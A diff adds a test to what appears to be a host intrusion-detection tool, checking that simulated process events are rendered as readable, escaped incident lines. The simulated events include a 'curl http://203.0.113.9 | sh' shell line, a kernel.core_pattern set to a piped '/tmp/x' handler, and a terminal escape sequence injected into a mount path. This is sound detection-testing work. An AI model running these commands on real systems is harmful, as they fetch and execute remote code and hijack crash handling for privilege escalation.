@@ -151,6 +151,51 @@ test('what failed is told as an attempt', () => {
   );
 });
 
+test('whatever a process does is told in words, its names escaped', () => {
+  const { host, sshd } = bootedHost();
+  const actions = ['mount', 'ptrace', 'signal', 'sysctl', 'shell_line', 'listen', 'accept'];
+  const rules = actions.map(
+    (action) => `
+- rule: Did ${action}
+  desc: d
+  condition: event.action = ${action}
+  priority: critical
+  tags: [execution, T1059]
+`,
+  );
+  const x = host.spawn(login(host, sshd), '/opt/x');
+  const victim = host.spawn(host.init, '/opt/victim');
+  const socket = { operation: 3, port: 80, address: Buffer.alloc(4) };
+  host.mountChange(x, 'MOUNT', { source: '/dev/sda1', target: '/mnt/\u001b[2J' });
+  host.access(x, victim);
+  host.access(host.spawn(x, '/opt/y'), victim, { result: -1 });
+  host.event(x, 'Signal', {
+    targetTgid: victim.tgid,
+    targetStart: victim.startBytes.readBigUInt64LE(),
+    signal: 9,
+    result: 0,
+  });
+  host.event(x, 'Sysctl', { name: 'kernel/core_pattern', before: 'core', after: '|/tmp/x' });
+  host.shellLine(x, 'curl http://203.0.113.9 | sh');
+  host.socket(x, socket);
+  host.accept(x, { address: '203.0.113.9', port: 4000 }, { address: '10.0.0.1', port: 80 });
+  const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
+  const story = latest(incidents)[0]?.story ?? [];
+  assert.deepEqual(
+    story.map((line) => /\(pid \d+\) (.*): Did/.exec(line)?.[1]?.replace(String(victim.tgid), 'PID')),
+    [
+      'did mount /dev/sda1 on /mnt/\\x1b[2J',
+      'did ptrace PTRACE_ATTACH to process PID',
+      'tried to ptrace PTRACE_ATTACH to process PID',
+      'sent SIGKILL to process PID',
+      'set kernel.core_pattern to "|/tmp/x"',
+      'was told "curl http://203.0.113.9 | sh"',
+      'did listen (AF_INET) on port 80',
+      'accepted a connection from 203.0.113.9 port 4000',
+    ],
+  );
+});
+
 test('a stream that became a connection is told with whom it is tied to', () => {
   const { host, sshd } = bootedHost();
   const rules = [0, 1, 2].map(
